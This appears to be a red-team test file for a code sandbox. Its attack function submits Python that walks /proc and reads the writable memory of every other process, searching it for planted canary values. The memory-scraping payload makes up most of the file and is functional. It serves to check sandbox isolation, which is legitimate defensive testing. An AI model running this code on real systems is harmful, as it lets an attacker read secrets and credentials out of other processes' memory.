"""The memory of every other process is searched for canaries.

Success: any canary.
"""

from tests.red_team.submission import SHOW


def attack(submission):
    submission.first(
        SHOW
        + """
import os

def search(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                area, rights = line.split()[:2]
                start, end = (int(x, 16) for x in area.split("-"))
                if rights.startswith("rw") and end - start < 1 << 28:
                    try:
                        memory.seek(start)
                        show(memory.read(end - start))
                    except (OSError, ValueError):
                        pass
    except OSError:
        pass

for name in os.listdir("/proc"):
    if name.isdigit() and int(name) not in (1, os.getpid()):
        search(name)
"""
    )
